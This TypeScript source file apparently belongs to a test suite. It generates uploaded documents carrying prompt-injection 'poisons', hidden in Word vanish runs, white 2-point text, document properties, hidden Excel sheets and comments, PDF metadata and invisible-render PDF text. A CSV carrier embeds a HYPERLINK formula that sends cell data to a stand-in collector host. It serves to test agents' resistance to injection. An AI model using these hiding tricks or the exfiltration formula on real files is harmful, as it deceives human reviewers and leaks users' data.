/** Poisons as files that people upload: in what they see, in what they do not, and in what programs read besides. */
import * as XLSX from '@e965/xlsx';
import { Document, Header, HeadingLevel, Packer, Paragraph, TextRun } from 'docx';
import { writePdf, type Pdf } from '../platform/text-extraction/testing/pdf-writer.ts';
import type { Poison } from './poisons.ts';
import type { TestFile } from './records.ts';

interface Carrier {
  name: string;
  type: keyof typeof mediaTypes;
  write(about: string, poison: string): Promise<Buffer> | Buffer;
  /** The standard fonts of PDF have no other letters. */
  latinOnly?: boolean;
  /** What is no text of the file is not read, so that no agent is told it. */
  isRead: boolean;
}

const mediaTypes = {
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  pdf: 'application/pdf',
  csv: 'text/csv',
  txt: 'text/plain',
};

type Options = ConstructorParameters<typeof Document>[0];

/** What XML may not hold is no way into a file of it. */
const inXml = (text: string): string => text.replaceAll(/[^\P{Cc}\n\t]/gu, '');

const word = (children: Paragraph[], options: Partial<Options> = {}, headers = {}): Promise<Buffer> =>
  Packer.toBuffer(new Document({ ...options, sections: [{ headers, children }] }));

const wordRun = (about: string, poison: string, run: object): Promise<Buffer> =>
  word([new Paragraph(about), new Paragraph({ children: [new TextRun({ text: inXml(poison), ...run })] })]);

const sheets = (fill: (book: XLSX.WorkBook, sheet: XLSX.WorkSheet) => void, about: string): Buffer => {
  const book = XLSX.utils.book_new();
  const sheet = XLSX.utils.aoa_to_sheet([['Subject', 'Note'], [about]]);
  XLSX.utils.book_append_sheet(book, sheet, 'Notes');
  fill(book, sheet);
  return XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
};

const pdf = (about: string, draw: (pdf: Pdf) => void, info = {}): Promise<Buffer> =>
  writePdf((page) => draw(page.text(about).moveDown()), { info });

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

const carriers: Carrier[] = [
  { name: 'a paragraph', type: 'docx', isRead: true, write: (about, poison) => wordRun(about, poison, {}) },
  {
    name: 'hidden words',
    type: 'docx',
    isRead: true,
    write: (about, poison) => wordRun(about, poison, { vanish: true }),
  },
  {
    name: 'white words',
    type: 'docx',
    isRead: true,
    write: (about, poison) => wordRun(about, poison, { color: 'FFFFFF', size: 2 }),
  },
  {
    name: 'a heading',
    type: 'docx',
    isRead: true,
    write: (about, poison) =>
      word([new Paragraph({ text: inXml(poison), heading: HeadingLevel.HEADING_1 }), new Paragraph(about)]),
  },
  {
    name: 'properties and header',
    type: 'docx',
    isRead: false,
    write: (about, poison) =>
      word(
        [new Paragraph(about)],
        { title: inXml(poison), subject: inXml(poison), keywords: inXml(poison), description: inXml(poison) },
        { default: new Header({ children: [new Paragraph(inXml(poison))] }) },
      ),
  },
  {
    name: 'a cell',
    type: 'xlsx',
    isRead: true,
    write: (about, poison) =>
      sheets((_, sheet) => XLSX.utils.sheet_add_aoa(sheet, [[about, inXml(poison)]], { origin: 'A2' }), about),
  },
  {
    name: 'a hidden sheet',
    type: 'xlsx',
    isRead: true,
    write: (about, poison) =>
      sheets((book) => {
        XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([[about, inXml(poison)]]), 'Codes');
        book.Workbook = { Sheets: [{ Hidden: 0 }, { Hidden: 2 }] };
      }, about),
  },
  {
    name: 'a comment',
    type: 'xlsx',
    isRead: false,
    write: (about, poison) =>
      sheets((_, sheet) => {
        const cell = sheet['A2'] as XLSX.CellObject;
        cell.c = Object.assign([{ a: 'Eve', t: inXml(poison) }], { hidden: true });
      }, about),
  },
  {
    name: 'a formula',
    type: 'csv',
    isRead: true,
    write: (about, poison) =>
      Buffer.from(
        `Subject,Note\n${about},${quoted(`=HYPERLINK("https://collector.example/?"&A1,"${poison.replaceAll(/\s+/g, ' ')}")`)}\n`,
      ),
  },
  { name: 'a text', type: 'txt', isRead: true, write: (about, poison) => Buffer.from(`${about}\n\n${poison}\n`) },
  {
    name: 'metadata',
    type: 'pdf',
    isRead: false,
    write: (about, poison) =>
      pdf(about, () => {}, { Title: poison, Subject: poison, Keywords: poison, Author: poison }),
  },
  {
    name: 'a paragraph',
    type: 'pdf',
    isRead: true,
    latinOnly: true,
    write: (about, poison) => pdf(about, (page) => page.text(poison)),
  },
  {
    name: 'white words',
    type: 'pdf',
    isRead: true,
    latinOnly: true,
    write: (about, poison) => pdf(about, (page) => page.fillColor('white').fontSize(2).text(poison)),
  },
  {
    name: 'words that are not drawn',
    type: 'pdf',
    isRead: true,
    latinOnly: true,
    write: (about, poison) => pdf(about, (page) => page.addContent('3 Tr').text(poison)),
  },
];

const isLatin = (text: string): boolean => [...text].every((letter) => letter.charCodeAt(0) <= 0xff);

export interface PoisonedFile {
  file: TestFile;
  carrier: string;
  isRead: boolean;
}

/** The carriers in turn, those that can carry it. */
export async function writePoisonedFile({ text, keyword }: Poison, turn: number): Promise<PoisonedFile> {
  const able = carriers.filter(({ latinOnly }) => !latinOnly || isLatin(text));
  const { name, type, write, isRead } = able[turn % able.length]!;
  const content = await write(`About ${keyword}. A plain line about ${keyword}.`, text);
  return { file: { name: `${keyword}.${type}`, type: mediaTypes[type], content }, carrier: `${type}: ${name}`, isRead };
}
